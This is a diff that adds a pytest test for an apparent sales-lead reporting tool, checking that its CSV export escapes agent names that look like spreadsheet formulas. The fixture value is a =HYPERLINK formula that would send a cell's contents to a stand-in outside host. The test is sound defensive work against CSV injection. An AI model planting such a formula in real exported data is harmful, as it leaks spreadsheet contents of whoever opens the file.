@@ -129,3 +129,31 @@ def test_bad_input_is_one_clear_line(
     err = capsys.readouterr().err
     assert message in err
     assert err.count("\n") == 1
+
+
+def test_csv_writes_formula_like_names_as_text(
+    db: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """An agent named like a spreadsheet formula is not run when the CSV is opened."""
+    from sqlalchemy import update
+
+    from leaddesk.store.models import Agent
+
+    store = open_store(db)
+    with store.transaction() as session:
+        session.execute(
+            update(Agent)
+            .where(Agent.name == "agent.two")
+            .values(name='=HYPERLINK("http://x.example/?"&A1,"ok")')
+        )
+    store.close()
+    out = tmp_path / "report.csv"
+    assert main(["report", "--db", str(db), "--agent", "all", "--csv", str(out), *WEEK]) == 0
+    capsys.readouterr()
+    with out.open(encoding="utf-8", newline="") as fh:
+        rows = list(csv.DictReader(fh))
+    names = {row["agent"]: row for row in rows}
+    assert set(names) == {'\'=HYPERLINK("http://x.example/?"&A1,"ok")', "agent.one", "all"}
+    assert names["agent.one"]["leads"] == "8"
+    cells = [cell for row in rows for cell in row.values()]
+    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells)
